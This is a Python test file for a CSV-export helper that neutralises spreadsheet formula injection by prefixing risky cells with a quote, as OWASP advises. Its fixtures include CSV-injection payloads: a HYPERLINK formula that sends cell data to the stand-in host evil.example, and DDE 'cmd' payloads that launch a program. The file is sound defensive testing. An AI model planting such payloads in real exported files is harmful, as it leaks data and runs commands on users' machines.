"""CSV cells a spreadsheet would run as a formula are written as text (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from session_scoring.services.csv_cells import csv_chunks, spreadsheet_safe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["KubernetesAgent", "a=b", " =1", "", None, -5, 3.5, "2026-01-01T00:00:00+00:00"])
def test_other_cells_are_written_as_they_are(cell: object) -> None:
    assert spreadsheet_safe(cell) == cell


def test_every_cell_of_every_row_is_neutralised_and_the_csv_stays_parseable() -> None:
    score_id = uuid.uuid4()
    rows = [[score_id, "=1+1", -3, 'say "hi", @you'], [score_id, "ok", None, "+1"]]

    text = "".join(csv_chunks(("id", "agent", "delta", "note"), rows))

    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [
        ["id", "agent", "delta", "note"],
        [str(score_id), "'=1+1", "-3", 'say "hi", @you'],
        [str(score_id), "ok", "", "'+1"],
    ]
